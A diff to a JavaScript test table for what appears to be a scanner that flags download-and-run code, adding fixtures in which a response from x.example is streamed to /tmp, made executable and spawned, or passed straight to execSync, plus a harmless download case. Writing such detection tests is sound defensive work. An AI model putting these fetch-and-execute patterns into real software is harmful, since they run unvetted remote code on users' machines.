@@ -33,6 +33,9 @@ scanTable('download-and-run', {
     'a response in a file that is run': `${HEAD} export async function f() { const b = Buffer.from(await (await fetch('https://x.example/b')).arrayBuffer());
       const p = path.join(os.tmpdir(), 'tool'); fs.writeFileSync(p, b); fs.chmodSync(p, 0o755); spawn(p, []); }`,
     'a response written executable': `${HEAD} export async function f() { fs.writeFileSync('/tmp/t', await (await fetch('https://x.example/b')).text(), { mode: 0o755 }); }`,
+    'a stream into a file that is run': `import https from 'node:https'; ${HEAD} https.get('https://x.example/p', (res) => { const w = fs.createWriteStream('/tmp/p'); res.pipe(w);
+      w.on('finish', () => { fs.chmodSync('/tmp/p', 0o755); spawn('/tmp/p', []); }); });`,
+    'events of a response': `import https from 'node:https'; ${HEAD} https.get('https://x.example/p', (res) => { let d = ''; res.on('data', (c) => { d += c; }); res.on('end', () => { execSync(d); }); });`,
   },
   clean: {
     'a download': command('curl -fsSLo data.json https://api.example.com/data.json'),
@@ -49,6 +52,7 @@ scanTable('download-and-run', {
       const { branch } = await (await fetch('https://api.example.com/b')).json(); await pi.exec('git', ['checkout', branch]); } }); }`,
     'a response in a file': `${HEAD} export async function f() { fs.writeFileSync('data.json', await (await fetch('https://api.example.com/d')).text()); }`,
     'opening a page': `${HEAD} export async function f() { const { url } = await (await fetch('https://api.example.com/d')).json(); spawn('xdg-open', [url]); }`,
+    'a stream into a file': `import https from 'node:https'; ${HEAD} https.get('https://x.example/a.zip', (res) => { res.pipe(fs.createWriteStream('a.zip')); });`,
     'the output of a command': `${HEAD} export const f = () => JSON.parse(execSync('npm ls --json').toString());`,
     'a script of its own': `${HEAD} fs.writeFileSync('/tmp/own.sh', 'echo hi', { mode: 0o755 }); spawn('/tmp/own.sh', []);`,
   },
